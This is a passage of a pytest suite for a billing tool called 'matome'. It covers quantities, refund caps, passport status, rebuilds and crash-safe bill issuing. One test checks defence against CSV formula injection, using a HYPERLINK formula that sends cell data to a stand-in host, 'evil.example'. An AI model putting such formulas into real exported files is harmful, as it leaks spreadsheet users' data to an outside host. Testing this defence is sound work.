    ("kind", "new_kind", "refused"),
    [
        pytest.param("hikari_next", "hikari_light", "invalid_input", id="next-to-light"),
        pytest.param("hikari_light", "hikari_next", "invalid_input", id="light-to-next"),
        pytest.param("hikari_next", "hikari_next", None, id="next-stays-next"),
    ],
)
def test_item_change_never_switches_hikari_next_and_light(
    matome: Matome, kind: str, new_kind: str, refused: str | None
) -> None:
    """docs/rules.md §6, contract 2: an ``item_change`` that asks for Hikari Next ⇄ Light is
    ``invalid_input`` (that is a menu change, which ends the service); nothing changes, and
    the subscription keeps being charged.  An item change within one kind keeps the service."""
    matome.run(
        *catalog(),
        line(LINE, kind=kind),
        passport(),
        buy(jst("01-15")),
        change_line(jst("02-10"), "item_change", new_kind=new_kind, refused=refused),
    )
    assert matome.subtotals() == [525, 525, 525, 525]
    assert matome.doc("continuity") == (
        []
        if refused
        else [
            {
                "customer_id": LINE,
                "at": jst("02-10"),
                "change": "item_change",
                "new_customer_id": None,
                "kept": True,
                "cancelled": [],
                "deleted": [],
            }
        ]
    )
    assert matome.status()["passports"][0]["status"] == "in_use"


def test_quantity_is_shown_on_the_bill_and_the_statement(matome: Matome) -> None:
    """docs/rules.md §4, §7 (the guide's statement shows 600 yen × 10), contract 2: a per-purchase
    item bought in a quantity is charged unit price × quantity, and the bill and the statement
    show both; the limit is checked against the whole amount."""
    matome.run(
        *world(),
        service("A", "stamp", "スタンプ", "per_purchase", 600),
        buy(jst("01-10"), "stamp", quantity=10, refused="limit_exceeded"),  # 6,000 > 5,000
        change_limit(jst("01-10", "11:00:00"), 8000),
        buy(jst("01-10", "12:00:00"), "stamp", quantity=10, name="ten"),
        buy(jst("01-10", "13:00:00"), "stamp", name="one"),
    )
    bill = matome.bill(LINE, "2024-01")
    assert bill["subtotal"] == 6600
    by_receipt = {c["receipt"]: c for c in bill["charges"]}
    ten, one = by_receipt[matome.receipts["ten"]], by_receipt[matome.receipts["one"]]
    assert (ten["unit_price"], ten["quantity"], ten["amount"]) == (600, 10, 6000)
    assert (one["unit_price"], one["quantity"], one["amount"]) == (600, 1, 600)
    rows = {r["receipt"]: r for r in matome.doc("statement", LINE, "2024-01")["rows"]}
    assert (rows[ten["receipt"]]["unit_price"], rows[ten["receipt"]]["quantity"]) == (600, 10)
    assert rows[ten["receipt"]]["amount"] == 6000
    code, table, _ = matome.text("statement", LINE, "2024-01")
    assert code == 0
    assert "6,000" in table or "6000" in table


#: (service, quantity) pairs a purchase may not carry.
BAD_QUANTITIES: list[tuple[str, object]] = [
    ("item", 0),
    ("item", 100),
    ("item", -1),
    ("item", "2"),
    ("item", 1.0),
    ("item", True),
    ("item", None),
    ("back", 2),  # a monthly-flat service is bought one at a time
]


def test_quantity_out_of_range_is_invalid_input(matome: Matome) -> None:
    """docs/rules.md §4, design "Quantity": 1–99 of a per-purchase item; a monthly-flat service
    is bought one at a time.  Anything else is ``invalid_input`` and charges nothing; 99 is
    accepted."""
    results = matome.run(
        *world(),
        *[
            buy(jst("01-10", f"10:00:{i:02d}"), svc, quantity=q, refused="invalid_input")
            for i, (svc, q) in enumerate(BAD_QUANTITIES)
        ],
    )
    assert all("quantity" in r["error"]["message"] for r in results[-len(BAD_QUANTITIES) :])
    assert matome.bill(LINE, "2024-01")["subtotal"] == 0
    matome.run(
        service("A", "sticker", "sticker", "per_purchase", 50, at=jst("01-11")),
        buy(jst("01-12"), "sticker", quantity=99),
    )
    assert matome.bill(LINE, "2024-01")["subtotal"] == 4950


def test_refund_of_a_per_purchase_item_is_capped_by_price_times_quantity(
    matome: Matome,
) -> None:
    """docs/rules.md §4, contract 2: refunds of one purchase never add up to more than what was
    charged for it (unit price × quantity), minus earlier refunds."""
    matome.run(
        *world(),
        buy(jst("01-10"), "item", quantity=3, name="m"),
        refund(jst("01-20"), "m", 1321, refused="refund_exceeds_charge"),
        refund(jst("01-21"), "m", 1000),
        refund(jst("02-01"), "m", 321, refused="refund_exceeds_charge"),
        refund(jst("02-02"), "m", 320),
        refund(jst("02-03"), "m", 1, refused="refund_exceeds_charge"),
    )
    assert matome.subtotals(months=("2024-01", "2024-02")) == [1320 - 1000, -320]


def test_refund_of_a_monthly_subscription_is_capped_by_the_months_charged_so_far(
    matome: Matome,
) -> None:
    """docs/rules.md §4, design "Refunds are capped by what was charged so far" (contract 2): a
    monthly subscription can be refunded its price for each month charged through the refund's
    month — not for months still to come, and not after its last charged month."""
    matome.run(
        *world(),
        buy(jst("01-15"), name="s"),
        refund(jst("01-20"), "s", 526, refused="refund_exceeds_charge"),
        refund(jst("01-21"), "s", 525),
        refund(jst("02-10"), "s", 526, refused="refund_exceeds_charge"),
        cancel(jst("02-11"), "s"),
        refund(jst("04-10"), "s", 525),
        refund(jst("04-11"), "s", 1, refused="refund_exceeds_charge"),
    )
    assert matome.subtotals() == [0, 525, 0, -525]


def test_a_same_month_repurchase_has_nothing_to_refund_in_its_first_month(
    matome: Matome,
) -> None:
    """docs/rules.md §4 (patterns 4/5), contract 2: a monthly service cancelled and bought again in
    one month is charged once, to the earlier subscription; the re-purchase was not charged
    that month, so it has nothing to refund until its next month is charged."""
    matome.run(
        *world(),
        buy(jst("02-10"), name="s"),
        cancel(jst("03-05"), "s"),
        buy(jst("03-20"), name="t"),
        refund(jst("03-21"), "t", 1, refused="refund_exceeds_charge"),
        refund(jst("03-22"), "s", 1050),
        refund(jst("04-02"), "t", 526, refused="refund_exceeds_charge"),
        refund(jst("04-03"), "t", 525),
    )
    assert matome.subtotals() == [0, 525, 525 - 1050, 525 - 525]


def test_status_lists_the_line_and_its_passport_ids(matome: Matome) -> None:
    """docs/contract.md ("Other documents": usage status), docs/rules.md §2, §5, §10, contract 2:
    ``matome status CUSTOMER_ID --json`` lists each Passport ID with its status (``in_use``,
    ``locked`` after ten wrong passwords, ``regulated`` while its line is), limit and
    line-authentication setting; deleted IDs are gone; a line without IDs is ``not_used``."""
    matome.run(
        *world(),
        line(LINE2),
        passport(PID2, LINE, at="2023-12-03T10:00:00+09:00", limit=2000, line_auth=True),
        passport("gone.3", LINE, at="2023-12-03T11:00:00+09:00", limit=100),
        *[
            buy(
                jst("01-10", f"10:00:{i:02d}"),
                "item",
                pid=PID2,
                password="Wrong999",
                presented_line=LINE,
                refused="wrong_password",
            )
            for i in range(10)
        ],
        buy(jst("01-11"), "item", pid=PID2, presented_line=LINE, refused="locked_out"),
    )
    matome.run(delete(jst("01-12"), "gone.3"))
    assert matome.status(LINE) == {
        "customer_id": LINE,
        "status": "in_use",
        "passports": [
            {"passport_id": PID2, "status": "locked", "limit": 2000, "line_auth": True},
            {"passport_id": PID, "status": "in_use", "limit": 5000, "line_auth": False},
        ],
    }
    assert matome.status(LINE2) == {"customer_id": LINE2, "status": "not_used", "passports": []}
    matome.run(regulate(jst("01-13")))
    regulated = matome.status(LINE)
    assert regulated["status"] == "regulated"
    assert {p["status"] for p in regulated["passports"]} == {"regulated"}
    code, table, _ = matome.text("status", LINE)
    assert code == 0
    assert PID in table
    assert PID2 in table


def test_status_of_an_unknown_line_is_an_error_with_exit_1(matome: Matome) -> None:
    """docs/contract.md ("Command line"): ``matome status`` of an unknown customer ID prints the
    error (``--json``: ``{"error": {"code": "unknown_line", ...}}``) and exits 1."""
    matome.run(*world())
    code, document = matome.call("status", "CAF9999999999")
    assert (code, document["error"]["code"]) == (1, "unknown_line")
    code, out, err = matome.text("status", "CAF9999999999")
    assert code == 1
    assert out == ""
    assert "unknown_line" in err


# ---------------------------------------------------------------------------------------------
# Rebuilding the read models


def test_rebuild_leaves_every_document_unchanged(matome: Matome) -> None:
    """docs/rules.md §6–§8 (the projections are derived from the log): ``matome rebuild --json``
    replays the log into fresh views; bills (issued and previews), statement, continuity,
    contacts, provider totals and settlement are unchanged."""
    matome.run(
        *_two_lines_buying(),
        buy(jst("01-20"), "item", name="m"),
        issue(jst("02-01", "09:00:00"), "2024-01"),
        refund(jst("02-10"), "m", 40),
        change_line(jst("02-11"), "relocation"),
        change_line(jst("02-12"), "cancellation", LINE2),
    )

    def documents() -> list[Doc]:
        out: list[Doc] = [matome.doc("continuity"), matome.doc("contacts", LINE)]
        for month in ("2024-01", "2024-02"):
            out += [matome.doc("providers", month)]
            out += [matome.bill(cid, month) for cid in (LINE, LINE2)]
        out += [matome.doc("statement", LINE, "2024-02"), matome.doc("settle", "2024-02")]
        return out

    before = documents()
    summary = matome.doc("rebuild")
    assert set(summary) >= {"positions", "seconds"}
    assert isinstance(summary["positions"], int)
    assert summary["positions"] > 0
    assert documents() == before
    assert matome.bill(LINE, "2024-01")["status"] == "issued"
    assert matome.bill(LINE, "2024-02")["status"] == "preview"


# ---------------------------------------------------------------------------------------------
# The real console script


def test_console_script_runs_a_log_and_prints_the_bill(tmp_path: Path) -> None:
    """docs/contract.md ("Command line"): ``matome run`` then ``matome bill --json`` in separate
    processes (production hashing), the guide's worked example (docs/rules.md §7)."""
    log = tmp_path / "log.jsonl"
    entries = [
        *world(),
        buy(jst("01-15", "20:00:00"), "back"),
        buy(jst("01-15", "20:05:00"), "anime1", provider="B"),
        buy(jst("01-15", "20:06:00"), "anime2", provider="B"),
    ]
    log.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in entries), "utf-8")
    db = str(tmp_path / "m.sqlite")
    env = {k: v for k, v in os.environ.items() if k != "MATOME_DB"}
    script = [sys.executable, "-m", "matome.cli"]
    run = subprocess.run(
        [*script, "run", str(log), "--db", db], capture_output=True, text=True, env=env, check=False
    )
    assert run.returncode == 0, run.stderr
    assert all(json.loads(r)["ok"] for r in run.stdout.splitlines())
    bill = subprocess.run(
        [*script, "bill", LINE, "2024-01", "--json", "--db", db],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert bill.returncode == 0, bill.stderr
    document = json.loads(bill.stdout)
    assert [(r["provider"], r["amount"]) for r in document["rows"]] == [("A", 525), ("B", 600)]
    assert document["subtotal"] == 1125


# ---------------------------------------------------------------------------------------------
# CSV that cannot hurt its reader (docs/contract.md, "CSV output that cannot hurt its
# reader")

#: Names a provider chooses, and a reason an operator types: each begins as a spreadsheet
#: formula would.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_SERVICE = "@SUM(1+1)"
FORMULA_REASON = "-2+3 refunded"


def _csv(matome: Matome, *args: str) -> list[dict[str, str]]:
    import csv
    import io

    code, out, err = matome.text(*args, "--csv")
    assert code == 0, err
    return list(csv.DictReader(io.StringIO(out)))


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(matome: Matome) -> None:
    """Contract 3: a cell beginning ``=``, ``+``, ``-`` (when not a number), ``@``, tab or
    carriage return is prefixed with ``'``; whole yen, negative ones included, stay numbers."""
    matome.run(
        provider("X", FORMULA_NAME),
        service("X", "svc", FORMULA_SERVICE, "monthly", 700),
        line(),
        passport(),
        buy(jst("01-15"), "svc", provider="X", name="s"),
        issue(jst("02-01", "09:00:00"), "2024-01"),
        {**refund(jst("02-10"), "s", 100), "reason": FORMULA_REASON},
    )
    (charge,) = _csv(matome, "bill", LINE, "2024-01")
    assert charge["amount"] == "700"
    refunds = [r for r in _csv(matome, "bill", LINE, "2024-02") if r["kind"] == "refund"]
    assert [(r["amount"], r["reason"]) for r in refunds] == [("-100", "'" + FORMULA_REASON)]
    (row,) = _csv(matome, "statement", LINE, "2024-01")
    assert row["provider_name"] == "'" + FORMULA_NAME
    assert row["service_name"] == "'" + FORMULA_SERVICE
    (contact,) = _csv(matome, "contacts", LINE)
    assert contact["name"] == "'" + FORMULA_NAME
    # The JSON documents carry the names as given: only the spreadsheet's format is defused.
    assert matome.doc("statement", LINE, "2024-01")["rows"][0]["provider_name"] == FORMULA_NAME


# ---------------------------------------------------------------------------------------------
# A bill reads as issued only once it is (rules §7, docs/reliability.md "Crashes")


class _Killed(BaseException):
    """Stands for a SIGKILL in the middle of the billing run: nothing after it runs."""


def test_after_a_billing_run_cut_short_only_the_recorded_bills_read_as_issued(
    matome: Matome, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A kill between two bills of the run leaves the month closed, one bill issued and the
    other not.  Until the run is completed, the other reads as a preview (JSON and table),
    never ``issued``; once completed, both are issued with the figures they read before."""
    from matome import billing
    from matome.application.eventstore import EventStoreApplication
    from matome.events.bill import BillIssued

    matome.run(*_two_lines_buying())
    record = EventStoreApplication.record
    recorded: list[str] = []

    def killed_after_the_first_bill(self: Any, events: Any, *args: Any, **kwargs: Any) -> None:
        bills = [e for e in events if isinstance(e, BillIssued)]
        if bills and recorded:
            raise _Killed
        record(self, events, *args, **kwargs)
        recorded.extend(str(b.customer_id) for b in bills)

    with monkeypatch.context() as m:
        m.setattr(billing, "_CHUNK", 1)
        m.setattr(EventStoreApplication, "record", killed_after_the_first_bill)
        with pytest.raises(_Killed):
            matome.run(issue(jst("02-01", "09:00:00"), "2024-01"))
    assert recorded == [LINE]
    assert matome.bill(LINE, "2024-01")["status"] == "issued"
    cut = matome.bill(LINE2, "2024-01")
    assert (cut["status"], cut["subtotal"]) == ("preview", 525)
    code, text, _ = matome.text("bill", LINE2, "2024-01")
    assert code == 0
    assert "[PREVIEW]" in text.splitlines()[0]
    assert "[issued]" not in text
    # Completing the run (what ``matome run --resume`` does first) issues it as it read.
    engine = Engine.open(matome.db, hash_iterations=TEST_ITERATIONS, create=False)
    try:
        assert engine.complete_billing() == 1
    finally:
        engine.close()
    assert matome.bill(LINE2, "2024-01") == {**cut, "status": "issued"}


# ---------------------------------------------------------------------------------------------
# One connection for one reader (docs/reliability.md, "Output and settings that cannot hurt")


@pytest.mark.postgres
def test_one_matome_bill_on_postgres_opens_one_connection(
    pg_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """``matome bill`` opened three connections (two pools, one of which grew before its
    first connection was made): the views now share the events' pool, opened with its one
    connection ready, and a catch-up reads the events in the views' own transaction."""
    import psycopg

    matome = Matome(pg_url, tmp_path, capsys)
    matome.run(*_two_lines_buying(), issue(jst("02-01", "09:00:00"), "2024-01"))
    connect = psycopg.Connection.connect.__func__  # type: ignore[attr-defined]
    opened: list[str] = []

    def counted(cls: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(kwargs.get("dbname") or args))
        return connect(cls, *args, **kwargs)

    monkeypatch.setattr(psycopg.Connection, "connect", classmethod(counted))
    for reader in (("rebuild",), ("bill", LINE, "2024-01"), ("bill", LINE2, "2024-02")):
        opened.clear()
        code, _ = matome.call(*reader)
        assert code == 0
        assert len(opened) == 1, (reader, opened)
